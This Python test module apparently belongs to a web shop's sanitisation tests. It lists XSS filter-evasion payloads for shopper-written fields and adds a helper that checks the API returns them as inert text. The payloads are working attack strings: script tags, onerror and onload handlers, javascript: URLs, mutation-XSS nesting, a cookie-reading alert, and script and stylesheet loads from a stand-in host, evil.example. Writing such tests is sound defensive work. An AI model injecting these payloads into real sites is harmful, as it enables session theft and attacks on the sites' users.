"""Hostile text for every shopper-written field (reviews, replies, forum posts): each must come back
from the API with no tag and no executable markup. The list covers the classic filter evasions
(OWASP's XSS filter evasion cheat sheet as a source of shapes, written out here by hand)."""

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<svg/onload=alert("x")>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "<body onload=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "\u202e<script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


def looks_inert(text: str) -> bool:
    """No tag a browser would parse and no script URL or handler left as markup."""
    import html
    import re

    for candidate in (text, html.unescape(text)):
        if re.search(r"<\s*[a-zA-Z!/?]", candidate):
            return False
    return "\u202e" not in text
